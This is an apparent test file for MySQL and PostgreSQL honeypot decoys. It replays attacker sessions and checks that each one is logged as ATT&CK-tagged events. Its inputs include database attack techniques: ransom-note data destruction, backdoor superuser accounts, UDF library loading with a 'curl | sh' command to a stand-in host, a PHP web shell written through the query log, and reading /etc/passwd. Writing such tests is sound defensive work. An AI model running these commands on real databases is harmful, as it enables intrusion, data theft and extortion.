/** What attackers do with databases, from the first statement to what is left when they come back: played over sockets, told as events. */
import {
  type DecoyListener,
  type RecordedContext,
  createDecoyContext,
  listenFor,
} from '@netsentinel/testkit/decoy-harness';
import { afterEach, describe, expect, it } from 'vitest';
import { MysqlClient } from '../mysql/mysql-client.fixture.ts';
import { mysqlDecoy } from '../mysql/mysql.decoy.ts';
import { PostgresClient } from '../postgres/postgres-client.fixture.ts';
import { postgresDecoy } from '../postgres/postgres.decoy.ts';

const PASSWORD = 'secret';
const open: DecoyListener[] = [];

afterEach(async () => {
  for (const listener of open.splice(0)) await listener.close();
});

interface Started extends RecordedContext {
  readonly port: number;
  stop(): Promise<void>;
}

/** @param memory what outlives the decoy host */
async function start(kind: 'mysql' | 'postgres', memory: Map<string, Uint8Array>, persona?: string): Promise<Started> {
  const recorded = createDecoyContext({ id: `${kind}-1`, memory });
  const user = kind === 'mysql' ? 'root' : 'postgres';
  const config = {
    ...(persona === undefined ? {} : { persona }),
    credentials: { accept: [{ user, password: PASSWORD }], anyAfterTries: false, weakPairs: false },
  };
  const decoy =
    kind === 'mysql'
      ? mysqlDecoy.create(recorded.ctx, mysqlDecoy.config.parse(config))
      : postgresDecoy.create(recorded.ctx, postgresDecoy.config.parse(config));
  const listener = await listenFor(decoy);
  open.push(listener);
  return {
    ...recorded,
    port: listener.port,
    async stop() {
      open.splice(open.indexOf(listener), 1);
      await listener.close();
    },
  };
}

const enterMysql = ({ port }: Started): Promise<MysqlClient> => MysqlClient.login(port, 'root', PASSWORD);
const enterPostgres = ({ port }: Started, database = 'postgres'): Promise<PostgresClient> =>
  PostgresClient.login(port, 'postgres', PASSWORD, database);

/** Actions with their techniques. */
function told({ events }: Started): string[] {
  return events.map(
    ({ event, threat }) =>
      `${event.action}${threat?.technique?.id === undefined ? '' : ` ${threat.technique.id.join()}`}`,
  );
}

describe('an attacker of MySQL', () => {
  it('dumps, drops and leaves a note, which is there after a restart', async () => {
    const memory = new Map<string, Uint8Array>();
    const before = await start('mysql', memory);
    const client = await enterMysql(before);
    const shop = /^\w+_shop$/m.exec(await client.ask('show databases'))![0];
    expect(await client.ask(`select * from ${shop}.customers limit 1`)).toContain('customers.email');
    expect(await client.ask(`drop database ${shop}`)).toMatch(/^ok \d+ /);
    await client.ask('create database README_TO_RECOVER');
    await client.ask('create table README_TO_RECOVER.note (note text, paid decimal(9,4), at datetime)');
    await client.ask("insert into README_TO_RECOVER.note values ('send 0.01 BTC', 0.01, '2026-01-02 03:04:05')");
    expect(told(before)).toEqual(
      expect.arrayContaining(['mysql-destroy T1485', 'mysql-ransom T1657', 'mysql-query T1213.006']),
    );
    client.close();
    await before.stop();
    const after = await start('mysql', memory);
    const back = await enterMysql(after);
    expect(await back.ask('select note, paid, at from README_TO_RECOVER.note')).toContain(
      'send 0.01 BTC | 0.0100 | 2026-01-02 03:04:05',
    );
    expect(await back.ask(`use ${shop}`)).toContain(`Unknown database '${shop}'`);
    expect(await back.ask('select count(*) > 0 from wordpress.wp_users')).toContain('\n1\n');
    back.close();
    expect([...before.failures, ...after.failures]).toEqual([]);
  });

  it('makes an account and comes back with it', async () => {
    const memory = new Map<string, Uint8Array>();
    const server = await start('mysql', memory);
    const client = await enterMysql(server);
    expect(await client.ask("create user mallory@'%' identified by 'Xy7'")).toMatch(/^ok/);
    expect(await client.ask("create user mallory@'%'")).toContain("Operation CREATE USER failed for 'mallory'@'%'");
    await client.ask("grant all privileges on *.* to mallory@'%' with grant option");
    expect(await client.ask("show grants for mallory@'%'")).toMatch(
      /GRANT ALL PRIVILEGES ON \*\.\* TO `mallory`@`%` IDENTIFIED BY PASSWORD '\*[0-9A-F]{40}' WITH GRANT OPTION/,
    );
    expect(await client.ask("select Super_priv from mysql.user where User = 'mallory'")).toContain('\nY\n');
    client.close();
    const mallory = await MysqlClient.login(server.port, 'mallory', 'Xy7');
    expect(await mallory.ask('select current_user()')).toContain('mallory@');
    mallory.close();
    await expect(MysqlClient.login(server.port, 'mallory', 'wrong')).rejects.toThrow('Access denied');
    expect(told(server)).toEqual(expect.arrayContaining(['mysql-account T1136.001', 'mysql-privileges T1098']));
  });

  it('writes a library, installs it, and runs commands with it in the next session', async () => {
    const server = await start('mysql', new Map());
    const client = await enterMysql(server);
    expect(await client.ask("create function sys_exec returns integer soname 'lib_x.so'")).toContain('error 1126');
    expect(await client.ask("select unhex('7f454c46') into dumpfile '/usr/lib/mysql/plugin/lib_x.so'")).toMatch(
      /^ok 1/,
    );
    expect(await client.ask("select 1 into outfile '/nowhere/x'")).toContain('error 1290');
    expect(await client.ask("create function sys_exec returns integer soname 'lib_x.so'")).toMatch(/^ok/);
    client.close();
    const next = await enterMysql(server);
    expect(await next.ask("select sys_exec('curl http://192.0.2.1/x | sh')")).toContain('\n0\n');
    next.close();
    expect(told(server)).toEqual(expect.arrayContaining(['mysql-library T1505.001', 'mysql-command T1059.004']));
  });

  it('makes a web shell of the query log', async () => {
    const server = await start('mysql', new Map());
    const client = await enterMysql(server);
    expect(await client.ask("set global general_log_file = '/nowhere/x.php'")).toContain('error 1231');
    expect(await client.ask("set global general_log_file = '/var/www/html/x.php'")).toMatch(/^ok/);
    await client.ask('set global general_log = on');
    await client.ask(`select '<?php system($_GET["c"]); ?>'`);
    expect(await client.ask("select load_file('/var/www/html/x.php') like '%Query%<?php system%'")).toContain('\n1\n');
    client.close();
    expect(told(server)).toEqual(expect.arrayContaining(['mysql-disguise T1562.002', 'mysql-file T1505.003']));
  });

  it('is told of when they read rows that nobody else reads', async () => {
    const server = await start('mysql', new Map(), 'debian-12-database');
    const client = await enterMysql(server);
    const database = /^\w+_crm$/m.exec(await client.ask('show databases'))![0];
    await client.ask(`select * from ${database}.users order by id limit 1`);
    expect(told(server)).not.toContain('mysql-honeytoken T1213.006');
    await client.ask(`select * from ${database}.users`);
    await client.ask(`select * from ${database}.users`);
    const read = server.events.filter(({ event }) => event.action === 'mysql-honeytoken');
    expect(read).toHaveLength(1);
    expect(read[0]!.message).toMatch(new RegExp(`^read from ${database}\\.users: \\w+_[0-9a-f]{8} `));
    client.close();
  });
});

describe('an attacker of PostgreSQL', () => {
  it('dumps, drops and leaves a note, which is there after a restart', async () => {
    const memory = new Map<string, Uint8Array>();
    const before = await start('postgres', memory);
    const client = await enterPostgres(before);
    const database = (await client.ask("select datname from pg_database where datname like '%_app'")).split('\n')[1]!;
    const inside = await enterPostgres(before, database);
    expect(await inside.ask('copy users to stdout')).toContain('admin@');
    expect(await inside.ask('drop table users cascade')).toContain('DROP TABLE');
    await inside.ask('create table readme_to_recover (note text, amount numeric(9,4), blob bytea)');
    await inside.ask(String.raw`insert into readme_to_recover values ('send 0.01 BTC', 0.01, '\x00ff')`);
    await client.ask('create role mallory superuser login');
    inside.close();
    client.close();
    expect(told(before)).toEqual(
      expect.arrayContaining(['postgres-destroy T1485', 'postgres-ransom T1657', 'postgres-account T1136.001']),
    );
    await before.stop();
    const after = await start('postgres', memory);
    const back = await enterPostgres(after, database);
    expect(await back.ask('select * from readme_to_recover')).toContain(String.raw`send 0.01 BTC | 0.0100 | \x00ff`);
    expect(await back.ask('select 1 from users')).toContain('relation "users" does not exist');
    expect(await back.ask("select count(*) from pg_roles where rolname = 'mallory'")).toContain('\n1\n');
    back.close();
    expect([...before.failures, ...after.failures]).toEqual([]);
  });

  it('runs commands, moves files through large objects, and loads libraries', async () => {
    const server = await start('postgres', new Map(), 'debian-12-database');
    const client = await enterPostgres(server);
    await client.ask('create table cmd (line text)');
    expect(await client.ask("copy cmd from program 'id'")).toMatch(/COPY \d/);
    expect(await client.ask('select line from cmd')).toContain('postgres');
    expect(await client.ask("select lo_from_bytea(4242, decode('7f454c46','hex'))")).toContain('4242');
    expect(await client.ask("select lo_export(4242, '/tmp/evil.so')")).toContain('\n1\n');
    expect(await client.ask("create function sys(cstring) returns int as '/nowhere/x.so','sys' language c")).toContain(
      'could not access file "/nowhere/x.so"',
    );
    expect(await client.ask("create function sys(text) returns text as '/tmp/evil.so','sys' language c")).toContain(
      'CREATE FUNCTION',
    );
    client.close();
    const next = await enterPostgres(server);
    await next.ask("select sys('wget http://192.0.2.1/x')");
    expect(await next.ask("create function p() returns int language plpython3u as 'x'")).toContain(
      'language "plpython3u" does not exist',
    );
    expect(await next.ask("select pg_read_file('/etc/passwd', 0, 4)")).toContain('\nroot\n');
    next.close();
    expect(told(server)).toEqual(
      expect.arrayContaining(['postgres-library T1505.001', 'postgres-command T1059.004', 'postgres-read T1005']),
    );
  });
});
